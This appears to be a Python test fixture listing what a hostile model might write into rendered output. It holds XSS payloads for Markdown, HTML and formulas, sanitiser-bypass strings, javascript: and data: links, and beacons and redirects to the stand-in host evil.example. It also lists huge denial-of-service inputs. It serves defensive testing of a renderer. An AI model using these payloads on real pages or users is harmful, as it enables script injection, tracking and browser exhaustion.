"""What a hostile model may write: known tricks against Markdown, sanitisers, formulas and browsers, and excess."""

# Each would set window.hacked, fetch from evil.example, or change the page around it, if anything of it were obeyed.
TRICKS = [
    # markup in Markdown
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><style>body{display:none}</style>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s></svg><svg><use href='data:image/svg+xml,<svg "
    "id=x onload=hacked=1>#x'/>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<form action=/accounts/logout/ method=post><button>x</button></form><input autofocus onfocus=hacked=1>",
    "<style>* { display: none !important }</style>",
    "<details open ontoggle=hacked=1><summary>x</summary></details><video><source onerror=hacked=1></video>",
    "<object data=javascript:hacked=1></object><embed src=//evil.example/x><link rel=stylesheet "
    "href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=https://evil.example/>",
    "<a id=main name=text class=frame>x</a><div id=words>{}</div><template data-template=code><b "
    "onclick=hacked=1></template>",
    "<marquee onstart=hacked=1>x</marquee><body onload=hacked=1><isindex action=javascript:hacked=1>",
    "<!--><img src=x onerror=hacked=1>--><![CDATA[<img src=x onerror=hacked=1>]]><?xml-stylesheet "
    "href='javascript:hacked=1'?>",
    "&lt;script&gt;hacked=1&lt;/script&gt; &#60;img src=x onerror=hacked=1&#62;",
    # what once changed its meaning between a sanitiser's parser and the page's
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=hacked=1>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=hacked=1></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "<svg><desc><noscript></noscript></desc><s></s><style><a title='</style><img src onerror=hacked=1>'>",
    "<select><noembed></select><script>x='<script>hacked=1</script>'</script>",
    "<table><caption><svg><title><style><img src=x onerror=hacked=1></style></title></svg></caption></table>",
    "<xmp><p title='</xmp><img src=x onerror=hacked=1>'></xmp><plaintext>",
    # links
    "[x](javascript:window.hacked=1) [y](data:text/html,<script>hacked=1</script>) <javascript:hacked=1>",
    "[x](JaVaScRiPt:hacked=1) [y](java\tscript:hacked=1) [z](&#106;avascript:hacked=1) [w](\x01javascript:hacked=1)",
    "[x](vbscript:hacked) [y](file:///etc/passwd) [z](blob:https://evil.example/x) "
    "[w](view-source:javascript:hacked=1)",
    "[x][1]\n\n[1]: javascript:hacked=1\n[2]: <javascript:hacked=1> 'title'",
    "[x](/accounts/logout/) [y](?edit=1) [z](#main) [w](settings/) [v](//evil.example/) [u](\\\\evil.example)",
    '[x](https://example.org/"onmouseover="hacked=1) [y](https://example.org/ "t\\" onclick=hacked=1 x=\\"")',
    "![x](https://evil.example/pixel.png) ![y](//evil.example/p.png) ![z](javascript:hacked=1) "
    "![w](picture:7) ![v](picture:-1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIi8+) ![y](data:text/html;base64,PHNjcmlwdD4=)",
    "[![x](https://evil.example/a.png)](javascript:hacked=1) <https://example.org/?<img src=x onerror=hacked=1>>",
    "https://example.org/<script>hacked=1</script> https://user:pass@example.org javascript://example.org/%0ahacked=1",
    # code, tables, notes
    "```html\n<script>window.hacked = 1</script>\n```",
    '```x" onmouseover="window.hacked=1\n1\n```',
    "```../../../evil\n1\n```\n\n```constructor\n1\n```\n\n```__proto__\n1\n```",
    "    <script>hacked=1</script>\n\n`<img src=x onerror=hacked=1>`",
    "| <script>hacked=1</script> | b |\n| - | - |\n| <img onerror=hacked=1 src=x> | [x](javascript:hacked=1) |",
    'x[^1] y[^"><img/src/onerror=hacked=1>]\n\n[^1]: <img src=x onerror=hacked=1>\n[^"><img/src/onerror=hacked=1>]: y',
    "- [x] <img src=x onerror=hacked=1>\n- [ ] [x](javascript:hacked=1)",
    "# <img src=x onerror=hacked=1>\n\n<b\nonclick=hacked=1>x</b\n>\n\n> <script>\n> hacked=1\n> </script>",
    # formulas
    "$\\href{javascript:window.hacked=1}{x}$ $\\url{javascript:hacked=1}$ $\\htmlData{x=1}{y}$ "
    "$\\htmlStyle{color:red}{y}$",
    "$\\includegraphics{https://evil.example/x.png}$ $\\htmlId{main}{x}$ $\\htmlClass{frame}{y}$",
    "$$\\def\\a{\\a\\a}\\a$$ $\\fcolorbox{red}{blue}{x}$ $\\textcolor{red}{y}$ $\\rule{900em}{900em}$",
    "$\\text{<img src=x onerror=hacked=1>}$ "
    '$\\unicode{x3c}script\\unicode{x3e}$ $\\textcolor{red"onmouseover="hacked=1}{x}$',
    "$$\\newcommand{\\x}[1]{#1#1}\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{y}}}}}}}}}}}$$",
    "\\[ \\verb|<script>hacked=1</script>| \\] \\( \\char`<script> \\)",
    # characters
    "\u202e<script>hacked=1</script>\u202c \u2066\u2067\u2068 <\u0000script>hacked=1</script> \ufeff<scr\u200bipt>",
    "＜script＞hacked=1＜/script＞ <ſcript>hacked=1</ſcript> \ud7ff\ufffd\uffff",
]

# name -> JavaScript that makes the text; each is more than a page can lay out richly in a moment.
FLOODS = {
    "a table of 50,000 rows": "'| a | b | c |\\n| - | - | - |\\n' + '| 1 | two | 3 |\\n'.repeat(50_000)",
    "a list 2,000 deep": "Array.from({ length: 2_000 }, (_, level) => ' '.repeat(2 * level) + '- x').join('\\n')",
    "a list 2,000 deep in one line": "'- '.repeat(2_000) + 'x'",
    "a quote 5,000 deep": "'>'.repeat(5_000) + ' x'",
    "brackets": "'['.repeat(50_000)",
    "brackets and bangs": "'![['.repeat(20_000) + ']('.repeat(20_000)",
    "stars": "'**a *b '.repeat(10_000)",
    "underscores": "'a_'.repeat(50_000)",
    "backticks": "Array.from({ length: 500 }, (_, n) => '`'.repeat(n)).join(' ')",
    "dollars": "'$a '.repeat(20_000) + '$$ '.repeat(10_000)",
    "openings of formulas": "'\\\\( '.repeat(30_000)",
    "fences in a list": "'- ```\\n'.repeat(5_000)",
    "footnotes": "Array.from({ length: 5_000 }, (_, n) => `[^${n}]: x[^${n}]`).join('\\n')",
    "formulas": "'$x_1$ '.repeat(2_000)",
    "emoji": "'👩‍👩‍👧‍👦🏳️‍🌈'.repeat(20_000)",
    "zero width": "'\\u200d\\u200b\\ufeff\\u2060'.repeat(100_000)",
    "marks over each other": "('a' + '\\u0301\\u0489\\u20dd'.repeat(300)).repeat(50)",
    "one word": "'y'.repeat(1_000_000)",
    "lines": "'x\\n'.repeat(200_000)",
    "a picture of 30 MB": "'![x](data:image/png;base64,' + 'A'.repeat(30_000_000) + ')'",
    "half a picture of 30 MB": "'![x](data:image/png;base64,' + 'A'.repeat(30_000_000)",
    "a link of 30 MB": "'[x](https://example.org/' + 'a'.repeat(30_000_000) + ')'",
    "code of 5 MB": "'```python\\n' + 'x = 1\\n'.repeat(800_000) + '```'",
    "headings": "'# a\\n'.repeat(20_000)",
}
